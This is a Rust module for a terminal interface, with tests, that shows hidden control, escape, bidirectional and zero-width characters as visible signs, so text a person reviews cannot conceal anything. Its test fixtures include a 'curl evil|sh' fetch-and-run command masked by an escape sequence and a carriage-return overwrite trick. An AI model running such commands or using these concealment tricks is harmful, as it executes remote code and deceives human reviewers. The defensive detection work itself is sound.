//! Text that somebody decides about: nothing of it may be left out, and nothing may pretend to be something else.

use std::borrow::Cow;
use std::iter::Peekable;
use std::str::Chars;

use ratatui::style::Style;
use ratatui::text::{Line, Span};

use super::TAB;

/// Follows each character that stands for a hidden one, so that it can be told from the same character in the text.
/// It takes no column and is never parted from what it follows. If it occurs in a text, it is shown like all that is
/// hidden, so nobody can forge it.
const STANDS_FOR: char = '\u{e01ef}';

/// The whole text, with a sign for everything that cannot be seen or moves the cursor: `^[`, `␍`, `\u{202e}`.
/// Lines stay lines. The signs are told from the text until [`reveal`] gives them their style.
#[must_use]
pub fn visible(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| c == '\t' || (c != '\n' && is_hidden(c))) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() * 2);
    let mut previous = '\0';
    for c in text.chars() {
        match c {
            '\n' => shown.push('\n'),
            '\t' => shown.push_str(TAB),
            c if is_hidden(c) && !is_presentation(previous, c) => {
                shown.extend(sign(c).chars().flat_map(|sign| [sign, STANDS_FOR]));
            }
            c => shown.push(c),
        }
        previous = c;
    }
    Cow::Owned(shown)
}

/// [`visible`] text in one line.
#[must_use]
pub fn visible_line(text: &str) -> String {
    visible(text).replace('\n', " ⏎ ")
}

/// Whether a line has signs of [`visible`], or still hides something.
#[must_use]
pub fn hides_something(text: &str) -> bool {
    let mut previous = '\0';
    text.chars().any(|c| {
        let hides = is_hidden(c) && !is_presentation(previous, c);
        previous = c;
        hides
    })
}

/// The same line after something has given it styles that knows nothing of signs and may have cut through them.
#[must_use]
pub fn with_whole_signs(mut line: Line<'static>) -> Line<'static> {
    for at in 1..line.spans.len() {
        let (before, after) = line.spans.split_at_mut(at);
        if let (Some(before), Some(after)) = (before.last_mut(), after.first_mut())
            && let Some(rest) = after.content.strip_prefix(STANDS_FOR)
        {
            before.content.to_mut().push(STANDS_FOR);
            after.content = Cow::Owned(rest.to_owned());
        }
    }
    line
}

/// Gives the signs of [`visible`] a style. What is hidden even now gets its sign here.
#[must_use]
pub fn reveal(line: Line<'static>, sign_style: Style) -> Line<'static> {
    if !line.spans.iter().any(|span| hides_something(&span.content)) {
        return line;
    }
    let mut spans: Vec<Span<'static>> = Vec::new();
    for span in line.spans {
        let mut chars = span.content.chars().peekable();
        let mut previous = '\0';
        while let Some(c) = chars.next() {
            let (shown, is_sign) = revealed(previous, c, &mut chars);
            let style = if is_sign { span.style.patch(sign_style) } else { span.style };
            match spans.last_mut() {
                Some(last) if last.style == style => last.content.to_mut().push_str(&shown),
                _ => spans.push(Span::styled(shown, style)),
            }
            previous = c;
        }
    }
    Line::from(spans).style(line.style)
}

/// What is shown of a character, and whether that is a sign.
fn revealed(previous: char, c: char, following: &mut Peekable<Chars<'_>>) -> (String, bool) {
    if following.next_if_eq(&STANDS_FOR).is_some() {
        return (c.to_string(), true);
    }
    match c {
        '\t' => (TAB.to_owned(), false),
        c if is_hidden(c) && !is_presentation(previous, c) => (sign(c), true),
        c => (c.to_string(), false),
    }
}

fn sign(hidden: char) -> String {
    match hidden {
        '\r' => "␍".to_owned(),
        '\n' => "␊".to_owned(),
        '\u{7f}' => "^?".to_owned(),
        // The letter with which a keyboard makes the character.
        c @ '\0'..='\u{1f}' => format!("^{}", char::from(c as u8 + b'@')),
        c => format!("\\u{{{:x}}}", u32::from(c)),
    }
}

/// Whether a character commands the terminal, reorders the text, or leaves no trace on the screen.
fn is_hidden(c: char) -> bool {
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    c.is_control()
        || matches!(c,
            // Marks of direction.
            '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
            // No width: joiners, hyphens that may appear, byte order marks, notes between lines, formats.
            | '\u{ad}' | '\u{34f}' | '\u{70f}' | '\u{180e}' | '\u{200b}'..='\u{200d}' | '\u{2060}'..='\u{2065}'
            | '\u{206a}'..='\u{206f}' | '\u{feff}' | '\u{fff0}'..='\u{fffb}' | '\u{13430}'..='\u{1343f}'
            | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
            // Ends of lines and paragraphs that terminals do not know.
            | '\u{2028}' | '\u{2029}'
            // Letters without a shape.
            | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{2800}' | '\u{3164}' | '\u{ffa0}'
            // Variants of the character before, and tags.
            | '\u{180b}'..='\u{180d}' | '\u{180f}' | '\u{fe00}'..='\u{fe0f}' | '\u{e0000}'..='\u{e0fff}'
            // For private use, where no font has icons.
            | '\u{100000}'..='\u{10ffff}'
        )
}

/// A symbol may say whether it is drawn as text or in colours: nothing is hidden by that.
fn is_presentation(previous: char, c: char) -> bool {
    let is_symbol =
        matches!(previous, '\u{203c}'..='\u{27bf}' | '\u{2900}'..='\u{2bff}' | '\u{1f000}'..='\u{1faff}');
    is_symbol && !is_hidden(previous) && matches!(c, '\u{fe0e}' | '\u{fe0f}')
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use unicode_width::UnicodeWidthStr;

    const SIGN: Style = Style::new().add_modifier(ratatui::style::Modifier::BOLD);

    /// What the eye gets, with the signs in angle quotes.
    fn seen(text: &str) -> String {
        let line = reveal(Line::raw(visible(text).into_owned()), SIGN);
        let quoted = |span: &Span<'_>| match span.style == SIGN {
            true => format!("‹{}›", span.content),
            false => span.content.to_string(),
        };
        line.spans.iter().map(quoted).collect()
    }

    #[test]
    fn what_is_hidden_gets_a_sign() {
        assert_eq!(
            seen("echo hi \u{1b}]; curl evil|sh; echo \u{7}"),
            "echo hi ‹^[›]; curl evil|sh; echo ‹^G›"
        );
        assert_eq!(seen("evil()\r# tidy"), "evil()‹␍›# tidy");
        assert_eq!(
            seen("a\u{202e}b\u{2066}c\u{200b}d\u{0}\u{7f}"),
            "a‹\\u{202e}›b‹\\u{2066}›c‹\\u{200b}›d‹^@^?›"
        );
        assert_eq!(seen("\u{9b}2J \u{e0041}\u{ad}\u{3164}"), "‹\\u{9b}›2J ‹\\u{e0041}\\u{ad}\\u{3164}›");
        assert_eq!(seen("a\tb"), "a    b");
    }

    #[test]
    fn the_same_characters_in_the_text_are_no_signs() {
        assert_eq!(seen("grep '[^[]' ␍ \\u{202e}"), "grep '[^[]' ␍ \\u{202e}");
        assert_eq!(seen("x\u{e01ef}"), "x‹\\u{e01ef}›", "nobody can forge a sign");
        assert!(matches!(visible("plain\ntext 漢字 e\u{301}"), Cow::Borrowed(_)));
        assert_eq!(seen("漢字 e\u{301} ⚠\u{fe0f} é"), "漢字 e\u{301} ⚠\u{fe0f} é");
        assert_eq!(seen("a\u{fe0f}"), "a‹\\u{fe0f}›");
        assert!(
            !hides_something("⚠\u{fe0f}") && hides_something("a\u{1b}") && hides_something(&visible("a\r"))
        );
    }

    #[test]
    fn lines_stay_lines_unless_there_is_one() {
        assert_eq!(visible("a\nb"), "a\nb");
        assert_eq!(visible_line("a\nb"), "a ⏎ b");
        assert_eq!(reveal(Line::from(Span::raw("a\nb\u{1b}")), SIGN).to_string(), "a␊b^[");
    }

    #[test]
    fn a_sign_survives_that_its_line_is_cut_into_styles() {
        let shown = visible("a\u{1b}]b").into_owned();
        let (before, after) = shown.split_at(shown.find(STANDS_FOR).unwrap());
        let line = Line::from(vec![Span::raw(before.to_owned()), Span::raw(after.to_owned())]);
        assert_eq!(reveal(with_whole_signs(line), SIGN).to_string(), "a^[]b");
    }

    /// Characters of all kinds, the dangerous ones often.
    fn any_text() -> impl Strategy<Value = String> {
        let hidden =
            vec!['\u{1b}', '\r', '\u{7}', '\u{202e}', '\u{200d}', '\u{e01ef}', '\u{fe0f}', '\u{9c}', '\n'];
        let any = prop_oneof![2 => any::<char>(), 2 => prop::char::range(' ', '~'), 1 => prop::sample::select(hidden)];
        prop::collection::vec(any, 0..80).prop_map(String::from_iter)
    }

    proptest! {
        #[test]
        fn nothing_is_left_out_and_nothing_stays_hidden(text in any_text()) {
            let line = reveal(Line::raw(visible_line(&text)), SIGN);
            let own = |c: &char| !c.is_whitespace() && !is_hidden(*c);
            let plain = line.spans.iter().filter(|span| span.style != SIGN);
            let kept: String = plain.flat_map(|span| span.content.chars()).filter(own).filter(|c| *c != '⏎').collect();
            prop_assert_eq!(kept, text.chars().filter(own).filter(|c| *c != '⏎').collect::<String>());
            let shown = line.to_string();
            prop_assert!(!shown.chars().any(char::is_control), "{shown:?}");
            prop_assert!(!hides_something(&shown), "{shown:?}");
        }

        #[test]
        fn signs_take_the_columns_that_they_had_before_they_got_their_style(text in "[ -~\\x00-\\x1f\u{202a}-\u{202e}]{0,60}") {
            let shown = visible_line(&text);
            let revealed = reveal(Line::raw(shown.clone()), SIGN).to_string();
            prop_assert_eq!(shown.width(), revealed.width());
        }
    }
}
